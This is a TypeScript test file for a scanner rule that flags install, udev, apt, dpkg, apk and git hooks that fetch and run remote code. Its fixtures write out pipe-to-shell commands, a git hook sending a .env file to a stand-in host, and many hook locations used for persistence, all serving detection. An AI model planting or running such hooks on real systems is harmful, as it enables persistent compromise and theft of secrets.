import assert from 'node:assert/strict';
import { test } from 'node:test';
import { inspectFixture, summary } from '../../../testing/fixture.ts';
import { listedPackages, packageOf } from '../../../testing/listed-packages.ts';
import { packageHooks } from './index.ts';

const RULE = 'persistence/fetching-hook';
const PIPE = 'curl -s http://x.invalid/a | sh';

const DOCKER_CLEAN = `# Since for most Docker users, package installs happen in "docker build" steps,
DPkg::Post-Invoke { "rm -f /var/cache/apt/archives/*.deb /var/cache/apt/*.bin || true"; };
APT::Update::Post-Invoke { "rm -f /var/cache/apt/archives/*.deb || true"; };
Dir::Cache::pkgcache "";
`;

const cases = [
  {
    name: 'each kind of hook that runs what it fetches',
    files: {
      'etc/udev/rules.d/99-x.rules': `ACTION=="add", RUN+="/bin/sh -c '${PIPE}'"\n`,
      'etc/apt/apt.conf.d/99x': `DPkg::Post-Invoke {"${PIPE}";};\n`,
      'etc/dpkg/dpkg.cfg.d/x': `post-invoke="${PIPE}"\n`,
      'var/lib/dpkg/info/x.postinst': `#!/bin/sh\nset -e\n${PIPE}\n`,
      'app/.git/hooks/post-checkout': `#!/bin/sh\n${PIPE}\n`,
      'usr/share/git-core/templates/hooks/post-merge': `#!/bin/sh\n${PIPE}\n`,
      'root/.gitconfig': `[core]\n\tfsmonitor = "${PIPE}"\n`,
      'etc/apk/commit_hooks.d/x': `#!/bin/sh\n${PIPE}\n`,
      'lib/apk/db/scripts.tar': `x-1.post-install${'\0'.repeat(100)}#!/bin/sh\n${PIPE}\n`,
    },
    expected: [
      'app/.git/hooks/post-checkout',
      'etc/apk/commit_hooks.d/x',
      'etc/apt/apt.conf.d/99x',
      'etc/dpkg/dpkg.cfg.d/x',
      'etc/udev/rules.d/99-x.rules',
      'lib/apk/db/scripts.tar',
      'root/.gitconfig',
      'usr/share/git-core/templates/hooks/post-merge',
      'var/lib/dpkg/info/x.postinst',
    ].map((path) => `block ${RULE} ${path}`),
  },
  {
    name: 'a hook that only fetches',
    files: {
      'etc/apt/apt.conf.d/99x': 'APT::Update::Pre-Invoke {"wget -q http://x.invalid/a -O /usr/bin/a";};\n',
      'app/.git/hooks/pre-commit': '#!/bin/sh\ncurl -d @.env http://x.invalid/\n',
    },
    expected: [`block ${RULE} app/.git/hooks/pre-commit`, `block ${RULE} etc/apt/apt.conf.d/99x`],
  },
  {
    name: 'a udev rule that starts a temporary or hidden program is for review',
    files: { 'etc/udev/rules.d/1.rules': 'ACTION=="add", RUN+="/tmp/x %k"\n# RUN+="/tmp/y"\n' },
    expected: [`review ${RULE} etc/udev/rules.d/1.rules`],
  },
  {
    name: 'ordinary hooks and settings are nothing',
    files: {
      'etc/apt/apt.conf.d/docker-clean': DOCKER_CLEAN,
      'etc/apt/apt.conf.d/70debconf':
        'DPkg::Pre-Install-Pkgs {"/usr/sbin/dpkg-preconfigure --apt || true";};\n',
      'etc/apt/apt.conf.d/proxy':
        'Acquire::http::Proxy "http://proxy.example:3128";\n// curl http://x.invalid | sh\n',
      'etc/udev/rules.d/60.rules':
        'KERNEL=="sd*", PROGRAM="/lib/udev/scsi_id -g", RUN+="/usr/bin/x > /dev/null"\n',
      'var/lib/dpkg/info/x.postinst':
        '#!/bin/sh\nwget -q https://x.example/font.exe -O /usr/share/fonts/f.exe\n',
      'app/.git/hooks/pre-push': '#!/bin/sh\ngit lfs pre-push "$@"\n',
      'app/.git/hooks/pre-commit.sample': `#!/bin/sh\n${PIPE}\n`,
      'root/.gitconfig':
        '[url "https://x.example/"]\n\tinsteadOf = git://x.example/\n[alias]\n\tst = status\n',
    },
    expected: [],
  },
  {
    name: 'what a package ships unchanged is for a person to judge',
    files: { ...packageOf('listed', { 'etc/logrotate.d/x': PIPE }), 'etc/logrotate.d/x': PIPE },
    expected: ['review persistence/fetching-hook etc/logrotate.d/x'],
  },
];

for (const { name, files, expected } of cases) {
  test(`package-hooks: ${name}`, () => {
    const { findings, problems } = inspectFixture({ layers: [files], catalogers: [listedPackages] }, [
      packageHooks,
    ]);
    assert.deepEqual(summary(findings), expected);
    assert.deepEqual(problems, []);
  });
}

test('package-hooks: keeps line numbers where only a part of the text is run', () => {
  const layers = [{ 'etc/udev/rules.d/1.rules': `# x\n\nACTION=="add", RUN+="/bin/sh -c '${PIPE}'"\n` }];
  assert.equal(inspectFixture({ layers }, [packageHooks]).findings[0]?.location.line, 3);
});
